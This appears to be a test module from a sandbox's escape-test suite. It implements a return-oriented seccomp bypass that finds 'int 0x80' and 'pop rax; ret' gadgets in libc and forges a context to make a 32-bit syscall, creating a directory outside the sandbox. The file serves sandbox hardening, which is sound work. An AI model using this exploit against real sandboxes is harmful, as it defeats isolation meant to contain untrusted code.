"""Make a 32-bit call by jumping into the middle of libc's own instructions."""

import ctypes
import os
import struct

from tests.escape.technique import Bare, Technique, not_run


def attack(world):
    path = world.syscall("mmap", 0, 4096, 3, 0x22 | 0x40, -1, 0)
    name = os.fsencode(world.outside + "/int80") + b"\0"
    ctypes.memmove(path, name, len(name))
    texts = [
        (start, ctypes.string_at(start, end - start))
        for start, end, file in world.executable_ranges()
        if b"vdso" not in file
    ]

    def find(pattern):
        for start, text in texts:
            if (at := text.find(pattern)) >= 0:
                return start + at
        raise OSError(2, "no gadget")

    gate, load = find(bytes.fromhex("cd80")), find(bytes.fromhex("58c3"))
    context = ctypes.create_string_buffer(1024)
    world.libc.getcontext(context)
    stack = world.syscall("mmap", 0, 65536, 3, 0x22, -1, 0) + 32768
    words = struct.pack("=QQQQ", 39, gate, 0, 0)
    ctypes.memmove(stack, words, len(words))
    registers = {128: path, 152: 0o755, 160: stack, 168: load}
    for offset, value in registers.items():
        ctypes.c_ulong.from_address(ctypes.addressof(context) + offset).value = value
    print("jumping", flush=True)
    world.libc.setcontext(context)


TECHNIQUE = Technique(
    source="return-oriented programming; seccomp(2): check the architecture first",
    event=("kernel.syscall",),
    stops=("seccomp",),
    ends=("SandboxDied",),
    control=Bare(),
    thread=not_run("it ruins the stack of the process it runs in"),
)
